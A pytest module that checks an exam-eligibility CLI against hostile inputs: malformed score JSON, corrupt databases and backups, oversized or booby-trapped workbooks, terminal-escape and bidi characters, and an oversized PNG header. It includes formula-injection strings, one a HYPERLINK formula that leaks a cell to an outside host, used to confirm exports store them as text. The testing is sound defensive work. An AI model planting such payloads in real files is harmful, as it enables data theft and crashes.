"""Hostile files for everything but applicant imports (issue 15): each kind that crashed, printed a traceback,
answered in English only, wrote partially or changed the database on a refusal in
``benchmarks/hostile_corpus_other.py``, as cases generated here.  Every refusal: exit 1 or 2, a Chinese
message naming the place, no traceback, the database unchanged (a digest of every table)."""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import sqlite3
import sys
import zipfile
from pathlib import Path

import pytest

from eligibility_desk.cli import main
from tests.account_helpers import ADMIN, add_accounts

CJK = re.compile("[\u4e00-\u9fff]")
STANDARD = ["--standard", "4-07-02-06"]


def run(argv, capsys) -> tuple[int, str, str]:
    status = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return status, out, err


def refused(status: int, err: str, place: str | None = None) -> None:
    assert status in (1, 2), err
    assert CJK.search(err), err
    if place is not None:
        assert place in err, err
    assert not any(ord(ch) < 32 and ch not in "\n\t" for ch in err), "a raw control character was printed"


def digest(path: Path) -> str:
    h = hashlib.sha256()
    con = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        for (table,) in con.execute("SELECT name FROM sqlite_master WHERE type='table' ORDER BY name"):
            h.update(table.encode())
            for row in sorted(repr(r) for r in con.execute(f'SELECT * FROM "{table}"')):
                h.update(row.encode())
    finally:
        con.close()
    return h.hexdigest()


# --- results ---------------------------------------------------------------------------------------------------

def scores_file(tmp_path, data: bytes) -> Path:
    path = tmp_path / "scores.json"
    path.write_bytes(data)
    return path


def one_score(text: str) -> bytes:
    """A one-candidate file with the theory score written exactly as ``text``."""
    return f'{{"scores": [{{"candidate": "C1", "level": "4", "theory": {text}, "skill": 70}}]}}'.encode()


@pytest.mark.parametrize("text", ['"５９.５x"', '"59,5"', '"1_0"', '"٦٠"', '"0x3C"', '"1e2"', '"6E1"', "NaN", "Infinity",
                                  '"NaN"', '"Infinity"', "-1", "101", "100.01", "59.99999999999999999", "59.95", "true",
                                  "false", "[]", "{}", '{"v": 60}', '"60分"', '"6\u200b0"', '""', '"   "', "1" + "0" * 5000,
                                  "1e999999999", '"" ', '"\u00a0"'])
def test_results_refuses_every_score_that_is_not_plainly_one(tmp_path, capsys, text):
    status, out, err = run(["results", scores_file(tmp_path, one_score(text)), *STANDARD], capsys)
    refused(status, err, "C1 theory")
    assert status == 1 and out == ""
    assert "Decimal(" not in err and "{'" not in err        # values quoted as written, not as Python reprs


@pytest.mark.parametrize("text,score", [('"５９.５"', 59.5), ('" 60 "', 60), ("1e2", 100), ("6E1", 60), ("-0", 0),
                                        ("60.0", 60), ('"+60"', 60), ('"\u3000６０\u3000"', 60)])
def test_results_takes_plain_numbers_however_written(tmp_path, capsys, text, score):
    status, out, err = run(["results", scores_file(tmp_path, one_score(text)), *STANDARD], capsys)
    assert status == 0, err
    assert json.loads(out)["results"][0]["parts"]["theory"]["score"] == score


def record(**fields) -> dict:
    return {"candidate": "C1", "level": "4", "theory": 60, **fields}


@pytest.mark.parametrize("note,code_words", [("", "违纪须填写说明"), ("   ", "违纪须填写说明"), ("\t\n", "违纪须填写说明"),
                                             ("\u3000", "违纪须填写说明"), (None, "违纪须填写说明"),
                                             ("手机\x00", "控制字符 U+0000"), ("\x1b[31m手机", "控制字符 U+001B"),
                                             ("手\u200b机", "U+200B"), ("\u202e机手", "U+202E"),
                                             ("手机" * 101, "超过上限 200"), (5, "应为文字")])
def test_results_a_disqualification_needs_a_note_fit_to_store(tmp_path, capsys, note, code_words):
    item = {"part": "skill"} if note is None else {"part": "skill", "note": note}
    data = json.dumps({"scores": [record(disqualified=[item])]}).encode()
    status, out, err = run(["results", scores_file(tmp_path, data), *STANDARD], capsys)
    refused(status, err, "C1 disqualified[0]")
    assert code_words in err


@pytest.mark.parametrize("candidate,words", [({"a": 1}, "应为文字"), (True, "应为文字"), (1.5, "应为文字"),
                                             ("C\x001", "控制字符"), ("\ud800", "U+D800"), ("C" * 65, "超过上限 64")])
def test_results_a_candidate_is_text_fit_to_store(tmp_path, capsys, candidate, words):
    data = json.dumps({"scores": [record(candidate=candidate, skill=70)]}).encode()
    status, _out, err = run(["results", scores_file(tmp_path, data), *STANDARD], capsys)
    refused(status, err, "#1 candidate")
    assert words in err


def test_results_a_key_given_twice_is_refused_not_the_last_kept(tmp_path, capsys):
    data = b'{"scores": [{"candidate": "C1", "level": "4", "theory": 99, "theory": 10, "skill": 70}]}'
    status, _out, err = run(["results", scores_file(tmp_path, data), *STANDARD], capsys)
    refused(status, err, "C1 theory")
    assert "出现了两次" in err


@pytest.mark.parametrize("data,words", [
    (b"", "第 1 行第 1 列"), (b"   \n", "第 2 行"), (b"candidate,theory\nC1,60\n", "不是有效的 JSON"),
    (one_score("60")[:-5], "不是有效的 JSON"), (b"\0" * 100, "编码"), (bytes(range(256)) * 4, "scores.json"),
    (b"[]", "应为对象"), (b"42", "应为对象"), (b'{"scores": {"C1": 60}}', "应为对象"),
    (b'{"scores": [], "scores": []}', "出现了两次"),
    (b'{"scores": [' + b"[" * 100_000 + b"]" * 100_000 + b"]}", "嵌套过深"),
])
def test_results_a_file_that_is_no_scores_file_is_a_chinese_usage_error(tmp_path, capsys, data, words):
    status, out, err = run(["results", scores_file(tmp_path, data), *STANDARD], capsys)
    refused(status, err, "scores.json")
    assert status == 2 and out == "" and words in err


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-be", "gb18030"])
def test_results_reads_the_encodings_the_import_reads(tmp_path, capsys, encoding):
    text = json.dumps({"scores": [record(candidate="考生一", skill=70)]}, ensure_ascii=False)
    status, out, err = run(["results", scores_file(tmp_path, text.encode(encoding)), *STANDARD], capsys)
    assert status == 0, err
    assert json.loads(out)["results"][0]["candidate"] == "考生一"


@pytest.mark.parametrize("argv,place", [(["--as-of", "2025-13-45"], "--as-of"), (["--standard", "9-99"], "9-99")])
def test_results_bad_options_are_chinese(tmp_path, capsys, argv, place):
    path = scores_file(tmp_path, b'{"scores": []}')
    args = ["results", path, *STANDARD, *argv] if argv[0] != "--standard" else ["results", path, *argv]
    status, _out, err = run(args, capsys)
    refused(status, err, place)


def test_typed_entry_follows_the_same_rules(tmp_path):
    from eligibility_desk.rules_engine import RuleLibrary
    from eligibility_desk.scoring import ScoreError, parse_cell, scoring_rules

    rules = scoring_rules(RuleLibrary.load().get("4-07-02-06"))
    for text in ["1_0", "٦٠", "1e2", "0x3C", "违纪\x01", "w \u200b", "违纪 " + "x" * 201]:
        with pytest.raises(ScoreError):
            parse_cell(text, rules)
    assert str(parse_cell("５９.５", rules)) == "59.5"
    assert parse_cell("违纪 携带手机", rules).note == "携带手机"


# --- the database file -------------------------------------------------------------------------------------------

@pytest.fixture
def prepared(tmp_path):
    """A migrated database file with the test administrator, closed."""
    path = tmp_path / "desk.sqlite3"
    add_accounts(f"sqlite:///{path}")
    con = sqlite3.connect(path)
    con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    con.close()
    return path


def _foreign(path: Path) -> None:
    path.unlink()
    with sqlite3.connect(path) as con:
        con.execute("CREATE TABLE applicants (x)")


def _newer(path: Path) -> None:
    con = sqlite3.connect(path)
    con.execute("UPDATE alembic_version SET version_num = '9999'")
    con.commit()
    con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    con.close()


@pytest.mark.parametrize("kind,words", [
    ("text", "不是数据库"), ("random", "不是数据库"), ("zip", "不是数据库"), ("truncated", "已损坏"),
    ("header only", "已损坏"), ("foreign", "其他程序"), ("newer", "更新版本"),
])
def test_a_file_that_is_no_database_of_ours_is_refused_untouched(prepared, capsys, kind, words):
    content = prepared.read_bytes()
    {"text": lambda: prepared.write_text("这不是数据库\n", encoding="utf-8"),
     "random": lambda: prepared.write_bytes(os.urandom(20_000)),
     "zip": lambda: prepared.write_bytes(_zip({"a.txt": b"x"})),
     "truncated": lambda: prepared.write_bytes(content[:5000]),
     "header only": lambda: prepared.write_bytes(content[:100]),
     "foreign": lambda: _foreign(prepared),
     "newer": lambda: _newer(prepared)}[kind]()
    before = prepared.read_bytes()
    status, _out, err = run(["--db", prepared, "batches", "--user", ADMIN], capsys)
    refused(status, err, str(prepared))
    assert words in err
    assert prepared.read_bytes() == before                  # not switched to WAL, not migrated into
    assert not list(prepared.parent.glob("*.bak-*"))


@pytest.mark.parametrize("where", ["folder", "missing parent"])
def test_a_database_path_that_cannot_be_a_file_is_a_message(tmp_path, capsys, where):
    target = tmp_path / "folder"
    if where == "folder":
        target.mkdir()
    else:
        (tmp_path / "plain").write_text("x")
        target = tmp_path / "plain" / "desk.sqlite3"        # its "folder" is a file
    status, _out, err = run(["--db", target, "batches", "--user", ADMIN], capsys)
    refused(status, err, "无法打开数据库")


def test_a_full_disk_is_a_message_and_nothing_is_written(planned, tmp_path, capsys, monkeypatch):
    """SQLITE_FULL, as a tiny disk gives it: the database may not grow past its size now."""
    from sqlalchemy import event

    from eligibility_desk.persistence import database

    prepared = tmp_path / "desk.sqlite3"
    prepared.write_bytes(planned.read_bytes())
    assert main(["--db", str(prepared), "batches", "--user", ADMIN]) == 0   # signed in once (a rehash is a write)
    before = digest(prepared)
    made = database._sqlite_engine

    def tiny(url, immediate):
        engine = made(url, immediate)

        @event.listens_for(engine, "connect")
        def _no_room(dbapi_connection, _record):
            pages = dbapi_connection.execute("PRAGMA page_count").fetchone()[0]
            dbapi_connection.execute(f"PRAGMA max_page_count = {pages}")
        return engine

    monkeypatch.setattr(database, "_sqlite_engine", tiny)
    status, _out, err = run(["--db", prepared, "resources", "demo", "--batch", "1", "--user", ADMIN], capsys)
    refused(status, err, "磁盘已满")
    assert digest(prepared) == before


def test_a_read_only_database_still_reads(prepared, capsys):
    url = f"sqlite:///file:{prepared}?mode=ro&uri=true"
    status, _out, err = run(["--db", url, "batches", "--user", ADMIN], capsys)
    assert status == 0, err


# --- backups -------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("kind,words", [("empty", "不是本程序的备份"), ("text", "不是本程序的备份"),
                                        ("no tables", "缺少数据表"), ("newer", "更新版本"), ("number", "更新版本"),
                                        ("damaged", "损坏")])
def test_restore_refuses_what_would_leave_no_usable_database(prepared, tmp_path, capsys, kind, words):
    backup = tmp_path / "b.sqlite3"
    if kind == "empty":
        backup.write_bytes(b"")
    elif kind == "text":
        backup.write_text("hello")
    elif kind == "damaged":
        data = bytearray(prepared.read_bytes())
        for at in range(4096 * 2, len(data), 4096):       # every page after the schema's: scrambled
            data[at + 8:at + 400] = os.urandom(392)
        backup.write_bytes(bytes(data))
    else:
        with sqlite3.connect(backup) as con:
            con.execute("CREATE TABLE alembic_version (version_num)")
            con.execute("INSERT INTO alembic_version VALUES (?)", ({"no tables": "0010", "newer": "9999", "number": 42}[kind],))
    before = digest(prepared)
    status, _out, err = run(["--db", prepared, "restore", backup, "--yes", "--user", ADMIN], capsys)
    refused(status, err, "b.sqlite3")
    assert words in err
    assert digest(prepared) == before


# --- the resources workbook --------------------------------------------------------------------------------------

HEADERS = {"考场": ["编号", "名称", "类型", "容量", "设备"], "人员": ["编号", "姓名", "角色", "单位", "不可用时间", "考评员证书", "主监考"],
           "时段": ["编号", "开始", "结束"]}


def resources_book(room=None, staff=None) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    rows = {"考场": room or ["X1", "教室", "标准教室", 30, ""], "人员": staff or ["S900", "张三", "监考", "本中心", "", "", "否"],
            "时段": ["Z1", "2025-11-01 08:30", "2025-11-01 10:00"]}
    for name, header in HEADERS.items():
        ws = wb.create_sheet(name)
        ws.append(header)
        ws.append(rows[name])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _corpus_module():
    """benchmarks/hostile_corpus_other.py (not a package), for the helpers its cases and these share."""
    import importlib.util

    path = Path(__file__).resolve().parents[2] / "benchmarks" / "hostile_corpus_other.py"
    spec = importlib.util.spec_from_file_location("hostile_corpus_other", path)
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module   # its dataclasses look their module up while they are made
    spec.loader.exec_module(module)
    return module


#: ``patched(book, member, change)``: the workbook with one part's XML changed by ``change(bytes) -> bytes``
patched = _corpus_module().patch_sheet


def _zip(members: dict) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


SHEET1 = "xl/worksheets/sheet1.xml"
RESOURCE_CASES = {
    "empty": (lambda: b"", "0 字节"),
    "text renamed": (lambda: "编号,名称\nX1,教室\n".encode("gb18030"), "不是 .xlsx 工作簿"),
    "truncated": (lambda: resources_book()[:3000], "不是 .xlsx 工作簿"),
    "zip bomb": (lambda: patched(resources_book(), SHEET1, lambda x: x.replace(b"<sheetData>", b"<!--" + b" " * 70_000_000
                                                                            + b"--><sheetData>")), "超过此类工作簿的上限"),
    "far cell": (lambda: patched(resources_book(), SHEET1, lambda x: x.replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')), "过大"),
    "broken xml": (lambda: patched(resources_book(), SHEET1, lambda x: x.replace(b'r="D2"', b'r="D2" r="D2"')), "已损坏"),
    "capacity huge": (lambda: resources_book(room=["X1", "教室", "标准教室", 10 ** 30, ""]), "超过上限 10000"),
    "formula capacity": (lambda: resources_book(room=["X1", "教室", "标准教室", "=10*3", ""]), "是公式「=10*3」"),
    "error cell": (lambda: patched(resources_book(), SHEET1, lambda x: x.replace(
        b'<c r="D2" t="n"><v>30</v>', b'<c r="D2" t="e"><v>#DIV/0!</v>')), "#DIV/0!"),
    "bidi name": (lambda: resources_book(staff=["S900", "张\u202e三", "监考", "本中心", "", "", "否"]), "U+202E"),
    "long name": (lambda: resources_book(staff=["S900", "张" * 32767, "监考", "本中心", "", "", "否"]), "超过上限 50"),
    "long room name": (lambda: resources_book(room=["X1", "教" * 300, "标准教室", 30, ""]), "超过上限 50"),
}


@pytest.fixture
def planned(tmp_path_factory):
    """A database with a screened demo batch (made once; each test copies it)."""
    folder = tmp_path_factory.mktemp("planned")
    path = folder / "desk.sqlite3"
    add_accounts(f"sqlite:///{path}")
    assert main(["--db", str(path), "demo-batch", "-n", "20", "--user", ADMIN]) == 0
    with sqlite3.connect(path) as con:
        con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    return path


@pytest.mark.parametrize("kind", list(RESOURCE_CASES))
def test_a_hostile_resources_workbook_is_refused_with_the_place_named(planned, tmp_path, capsys, kind):
    make, words = RESOURCE_CASES[kind]
    db = tmp_path / "desk.sqlite3"
    db.write_bytes(planned.read_bytes())
    book = tmp_path / "资源.xlsx"
    book.write_bytes(make())
    capsys.readouterr()
    before = digest(db)
    status, _out, err = run(["--db", db, "resources", "import", book, "--batch", "1", "--user", ADMIN], capsys)
    refused(status, err)
    assert words in err
    assert "资源.xlsx" in err or "第 2 行" in err               # the file, or the row and column
    assert digest(db) == before


# --- writers ---------------------------------------------------------------------------------------------------------

def test_export_onto_a_folder_is_a_message_and_leaves_nothing_behind(planned, tmp_path, capsys, monkeypatch):
    db = tmp_path / "desk.sqlite3"
    db.write_bytes(planned.read_bytes())
    target = tmp_path / "out"
    target.mkdir()
    capsys.readouterr()
    import gc
    import sys

    ignored = []
    monkeypatch.setattr(sys, "unraisablehook", ignored.append)   # what would print "Exception ignored …" at exit
    status, _out, err = run(["--db", db, "export", target, "--batch", "1", "--user", ADMIN], capsys)
    gc.collect()
    refused(status, err, str(target))
    assert list(tmp_path.glob("**/*.partial")) == [] and list(target.iterdir()) == []
    assert ignored == []                 # the unsaved write-only sheets were finished, not left to the collector


def test_a_workbook_that_fails_to_save_leaves_the_old_file_whole(tmp_path, monkeypatch):
    from openpyxl import Workbook

    from eligibility_desk.domain.sheet_cells import save_workbook

    target = tmp_path / "导出.xlsx"
    target.write_bytes(b"the previous export")
    wb = Workbook()

    def full_disk(self, filename):
        Path(filename).write_bytes(b"PK half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(type(wb), "save", full_disk)
    with pytest.raises(OSError):
        save_workbook(wb, target)
    assert target.read_bytes() == b"the previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["导出.xlsx"]


# --- score sheets ------------------------------------------------------------------------------------------------------

def score_book(cells: dict[str, object] | None = None, patch=None) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "成绩"
    ws.append(["座位号", "准考证号", "姓名", "理论知识考试"])
    ws.append([1, "A001", "张三", 60])
    ws.append([2, "A002", "李四", 70])
    for ref, value in (cells or {}).items():
        ws[ref] = value
    out = io.BytesIO()
    wb.save(out)
    data = out.getvalue()
    return patched(data, SHEET1, patch) if patch else data


@pytest.mark.parametrize("kind,words", [
    ("formula", "是公式「=50+10」"), ("error", "#DIV/0!"), ("date", "不是分数"), ("text", "不是分数"),
    ("too many decimals", "超过 1 位小数"),
])
def test_a_score_sheet_cell_that_is_no_plain_score_is_reported_at_its_cell(tmp_path, kind, words):
    from datetime import datetime

    from eligibility_desk.rules_engine import RuleLibrary
    from eligibility_desk.scoring import scoring_rules
    from eligibility_desk.services.scores.score_files import read_score_workbook

    rules = scoring_rules(RuleLibrary.load().get("4-07-02-06"))
    book = {"formula": lambda: score_book({"D3": "=50+10"}, lambda x: x.replace(b"<v />", b"<v>60</v>")),
            "error": lambda: score_book(patch=lambda x: x.replace(b'<c r="D3" t="n"><v>70</v>', b'<c r="D3" t="e"><v>#DIV/0!</v>')),
            "date": lambda: score_book({"D3": datetime(2025, 1, 1)}),
            "text": lambda: score_book({"D3": "七十"}),
            "too many decimals": lambda: score_book({"D3": 0.00001})}[kind]()
    path = tmp_path / "成绩.xlsx"
    path.write_bytes(book)
    imported = read_score_workbook(path, rules)
    assert [(p.row, p.column) for p in imported.problems] == [(3, "D")]
    assert words in imported.problems[0].describe()
    assert "theory" not in next(r for r in imported.rows if r.row == 3).values


@pytest.mark.parametrize("kind,words", [("empty", "0 字节"), ("text", "不是 .xlsx"), ("far cell", "过大")])
def test_a_score_sheet_file_that_is_no_workbook_is_refused_unread(tmp_path, kind, words):
    from eligibility_desk.rules_engine import RuleLibrary
    from eligibility_desk.scoring import scoring_rules
    from eligibility_desk.services.records.sheets import WorkbookRefused
    from eligibility_desk.services.scores.score_files import read_score_workbook

    rules = scoring_rules(RuleLibrary.load().get("4-07-02-06"))
    path = tmp_path / "成绩.xlsx"
    path.write_bytes({"empty": b"", "text": b"seat,score\n1,60\n",
                      "far cell": score_book(patch=lambda x: x.replace(
                          b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'))}[kind])
    with pytest.raises(WorkbookRefused) as refusal:
        read_score_workbook(path, rules)
    assert words in refusal.value.message("zh") and "成绩.xlsx" in refusal.value.message("zh")


# --- photos --------------------------------------------------------------------------------------------------------

def test_photo_file_names_with_control_characters_are_shown_visibly(planned, tmp_path, capsys):
    db = tmp_path / "desk.sqlite3"
    db.write_bytes(planned.read_bytes())
    folder = tmp_path / "照片"
    folder.mkdir()
    (folder / "\x1b[31mX\x07.jpg").write_bytes(b"not a photo")
    (folder / "\u202eY.jpg").write_bytes(b"")
    capsys.readouterr()
    status, _out, err = run(["--db", db, "photos", "import", "1", folder, "--user", ADMIN], capsys)
    refused(status, err, "<U+001B>")
    assert "<U+202E>" in err


def test_a_photo_folder_that_is_not_one_is_chinese(planned, tmp_path, capsys):
    capsys.readouterr()
    status, _out, err = run(["--db", planned, "photos", "import", "1", tmp_path / "nowhere", "--user", ADMIN], capsys)
    refused(status, err, "nowhere")


# --- printing names no font has ---------------------------------------------------------------------------------

@pytest.mark.parametrize("document", ["slips", "signin"])
def test_names_no_font_has_print_with_a_warning_naming_each(planned, tmp_path, tmp_path_factory, capsys, monkeypatch,
                                                           document):
    """Emoji and CJK Extension B on a machine with only the bundled font: the PDF is written and each name it
    cannot draw is a warning naming the candidate and the characters (it crashed with a KeyError); a name
    stored before the text policy with an invisible tag character is shown made visible."""
    from eligibility_desk.documents import fonts
    from tests.documents.font_machines import simulate

    simulate(tmp_path_factory.mktemp("bare-machine"), monkeypatch)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    db = tmp_path / "desk.sqlite3"
    db.write_bytes(planned.read_bytes())
    rare = ["王😀", "𠀀𠀁林", "\U000e0041张"]
    con = sqlite3.connect(db)
    ids = [r[0] for r in con.execute("SELECT id FROM applicant ORDER BY id")]
    for pk in ids:
        con.execute("UPDATE applicant SET name = ? WHERE id = ?", (rare[pk % 3], pk))
    con.commit()
    con.close()
    assert main(["--db", str(db), "resources", "demo", "--batch", "1", "--user", ADMIN]) == 0
    assert main(["--db", str(db), "plan-batch", "--batch", "1", "--final", "--user", ADMIN]) == 0
    capsys.readouterr()
    try:
        status, out, err = run(["--db", db, "print-batch", "1", document, "--out", tmp_path / "d.pdf", "-q",
                                "--user", ADMIN], capsys)
    finally:
        fonts.find_cjk_font.cache_clear()
    assert status == 0, err
    assert (tmp_path / "d.pdf").stat().st_size > 1000
    assert "缺字「😀」" in err and "王😀" in err and "𠀀" in err
    assert not any(ord(ch) < 32 and ch != "\n" for ch in err)


# --- every writer: user text stays text ---------------------------------------------------------------------------

RISKY = ['=HYPERLINK("http://x?leak="&A1,"点我")', "+1+2", "-3+4", "@SUM(A1)", "\t=1", "＝1+1", "#N/A"]


def formula_parts(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >/]", z.read(n))]


def test_the_plan_workbook_writes_formula_like_names_as_text(tmp_path, capsys):
    import copy

    from tests.planning.conftest import SMALL

    data = copy.deepcopy(SMALL)
    for i, candidate in enumerate(data["candidates"]):
        candidate["name"] = RISKY[i % len(RISKY)]
        candidate["institution"] = RISKY[(i + 1) % len(RISKY)]
    for i, member in enumerate(data["staff"]):
        member["name"] = RISKY[i % len(RISKY)]
    scenario = tmp_path / "scenario.json"
    scenario.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "编排.xlsx"
    status, _out, err = run(["plan", scenario, "--seed", "1", "--xlsx", out], capsys)
    assert status == 0, err
    assert formula_parts(out) == []
    with zipfile.ZipFile(out) as z:
        sheets = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "HYPERLINK".encode() in sheets and "＝1+1".encode() in sheets


# --- scores entered on the command line ------------------------------------------------------------------------

@pytest.fixture
def sheets_db(planned, tmp_path):
    db = tmp_path / "desk.sqlite3"
    db.write_bytes(planned.read_bytes())
    for step in (["resources", "demo", "--batch", "1"], ["plan-batch", "--batch", "1", "--final"], ["scores", "open", "--batch", "1"]):
        assert main(["--db", str(db), *step, "--user", ADMIN]) == 0
    return db


@pytest.mark.parametrize("argv,words", [
    (["1", "1=1_0"], "不是分数"), (["1", "1=٦٠"], "不是分数"), (["1", "1=NaN"], "不是分数"), (["1", "1=1e2"], "不是分数"),
    (["1", "1=违纪\x01"], "控制字符"), (["1", "1=w \u200b"], "U+200B"), (["1", "1=w  "], "违纪须填写说明"), (["1", "1=违纪 " + "x" * 201], "超过上限 200"),
    (["1", "9" * 5000 + "=60"], "座位=成绩"), (["1", "٣=60"], "座位=成绩"), (["999", "1=60"], "未找到"),
    (["abc", "1=60"], "命令行参数有误"),
])
def test_scores_entered_on_the_command_line_are_checked_like_typed_ones(sheets_db, capsys, argv, words):
    capsys.readouterr()
    before = digest(sheets_db)
    with pytest.raises(SystemExit) if argv[0] == "abc" else _nothing():
        status, _out, err = run(["--db", sheets_db, "scores", "enter", *argv[:1], "--recorder", "1", *argv[1:],
                                 "--user", ADMIN], capsys)
        refused(status, err)
        assert words in err
    if argv[0] == "abc":
        assert words in capsys.readouterr().err
    assert digest(sheets_db) == before


class _nothing:
    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False


@pytest.mark.parametrize("size", [(30000, 30000), (1, 100_000_000)])
def test_a_photo_declaring_too_many_pixels_is_refused_quietly(size):
    """Refused from its header, before any pixel is decoded, and without Pillow's warning on stderr."""
    import struct
    import warnings
    import zlib

    from eligibility_desk.documents.photo import PhotoError, normalise_photo

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", *size, 8, 2, 0, 0, 0))
           + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b""))
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        with pytest.raises(PhotoError) as refused:
            normalise_photo(png)
    assert refused.value.code == "photo_too_large"
    assert caught == []
